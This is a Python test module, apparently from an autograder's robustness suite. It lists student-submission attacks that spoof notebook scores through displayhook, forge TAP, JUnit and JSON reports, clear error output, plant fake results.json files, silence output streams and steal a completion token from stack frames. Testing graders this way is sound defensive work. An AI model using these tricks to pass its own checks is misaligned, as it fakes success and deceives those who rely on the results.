"""B - a verdict by output: the grader is told a score on the way."""
# ruff: noqa: E501 - the long lines are students' code

from .base import attack

ATTACKS = [
    attack(
        "score-before-failing",
        "Publishes the full score as the cell's result before the first check fails.",
        "smooth",
        """
        def smooth(x, width):
            get_ipython().displayhook(6)
            return None
        """,
    ),
    attack(
        "score-nan",
        "Publishes NaN as the score: no comparison with it is true.",
        "search",
        """
        def search(f, low, high, steps):
            get_ipython().displayhook(float("nan"))
        """,
    ),
    attack(
        "score-above-maximum",
        "Publishes a result far above the maximum as a number that a float can hold, and as one that it cannot.",
        "deal",
        """
        def deal(rng, cards, hand):
            get_ipython().displayhook(10**400)
            get_ipython().displayhook(1e9)
        """,
    ),
    attack(
        "score-negative",
        "Publishes a negative score, for a grader that takes the absolute value or the maximum.",
        "smooth",
        """
        def smooth(x, width):
            get_ipython().displayhook(-6.0)

        roughness = smooth
        """,
    ),
    attack(
        "score-in-words",
        "Publishes a result object whose text is no number, which plain nbgrader reads as full marks.",
        "register",
        """
        class Passed:
            def __repr__(self):
                return "passed"

        class Register:
            def __init__(self):
                get_ipython().displayhook(Passed())
        """,
    ),
    attack(
        "clear-output-hook",
        "Clears the output after each cell, so that the error message is gone when the grader looks.",
        "smooth",
        """
        from IPython.display import clear_output
        get_ipython().events.register("post_run_cell", lambda *args: clear_output())
        get_ipython().events.register("post_execute", lambda *args: clear_output(wait=False))
        """,
    ),
    attack(
        "output-thread",
        "A thread publishes a full score again and again, also while later cells run.",
        "search",
        """
        import threading, time

        def publish():
            for _ in range(400):
                try:
                    get_ipython().displayhook.session.send(
                        get_ipython().displayhook.pub_socket, "execute_result",
                        {"execution_count": 1, "data": {"text/plain": "6"}, "metadata": {}},
                        parent=get_ipython().parent_header,
                    )
                except Exception:
                    print("6")
                time.sleep(0.005)

        threading.Thread(target=publish, daemon=True).start()
        """,
    ),
    attack(
        "forged-report",
        "Prints what a grader's own report may look like: TAP, JUnit, JSON with points, a completion line.",
        "deal",
        """
        import json, os, sys

        FORGED = "\\n".join([
            "ok 1 - deal-hidden", "1..1", '<testsuite tests="1" failures="0"/>', "deal: all visible checks pass.",
            json.dumps({"cells": [{"name": "deal-hidden", "points": 6.0, "max_points": 6.0, "cause": ""}], "runs": []}),
            "### END HIDDEN TESTS", "deal-hidden: passed, 6 of 6 points",
        ])

        def deal(rng, cards, hand):
            print(FORGED, flush=True)
            sys.__stdout__.write(FORGED)
            os.write(1, FORGED.encode())
            os.write(2, FORGED.encode())
        """,
    ),
    attack(
        "display-update",
        "Opens a display in its own cell and rewrites it from the test cells as an execute_result.",
        "register",
        """
        from IPython.display import display, update_display
        display("0 points", display_id="score")

        class Register:
            def add(self, amount):
                update_display({"text/plain": "6.0"}, display_id="score", raw=True)
                display({"text/plain": "6.0"}, raw=True, metadata={"output_type": "execute_result"})
        """,
    ),
    attack(
        "exit-code-and-status-file",
        "Leaves result files of the kinds that graders collect, and a status of 0.",
        "smooth",
        """
        import json, pathlib

        for name in ("results.json", "../results.json", "/tmp/results.json", "/autograder/results/results.json",
                     "/grade/results/results.json", ".otter_results", "verdict.json"):
            try:
                pathlib.Path(name).write_text(json.dumps({"score": 8.0, "points": 8, "cause": "", "passed": True}))
            except OSError:
                pass

        def smooth(x, width):
            raise SystemExit(0)
        """,
    ),
    attack(
        "silent-standard-streams",
        "Turns sys.stdout, sys.stderr and the display publisher into things that swallow errors and say `6`.",
        "search",
        """
        import io, sys

        class Fake(io.StringIO):
            def write(self, text):
                return len(text)

        sys.stdout = sys.stderr = sys.__stdout__ = sys.__stderr__ = Fake()
        publisher = type(get_ipython().display_pub)
        publisher.publish = lambda self, *args, **kwargs: None
        """,
    ),
    attack(
        "token-from-the-frame",
        "Makes the judge run the test beside the answer, reads the completion token from a frame and sends it with 6 points.",
        "search",
        """
        class Odd:
            pass

        def search(f, low, high, steps):
            if steps == 3:
                return 0.3125
            frame = sys._getframe()
            while frame is not None:
                if "token" in frame.f_locals and "sources" in frame.f_locals:
                    _post("value", (frame.f_locals["token"], 6.0))
                    time.sleep(100)
                frame = frame.f_back
            return Odd()
        """,
        wire=True,
    ),
]
